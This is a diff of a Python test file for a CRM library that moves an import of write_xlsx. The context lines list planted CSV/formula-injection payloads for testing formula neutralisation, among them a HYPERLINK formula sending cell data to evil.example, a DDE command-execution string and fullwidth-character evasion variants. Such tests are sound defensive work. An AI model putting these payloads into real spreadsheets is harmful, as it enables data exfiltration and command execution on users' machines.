@@ -15,7 +15,7 @@ import pytest
 from crmlib.ingest import ingest_file
 from crmlib.safe_cells import neutralise_formulas
 from crmlib.segments import write_segment_exports
-from crmlib.segments.xlsx import write_xlsx
+from crmlib.xlsx import write_xlsx
 
 PLANTED = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1,2)", "-2+3", "@SUM(A1:A9)",
            "\tTAB=1", "\rCR=1", "=cmd|' /C calc'!A0", "\uff1dHYPERLINK(\"http://evil\")", "\uff0b1+1",
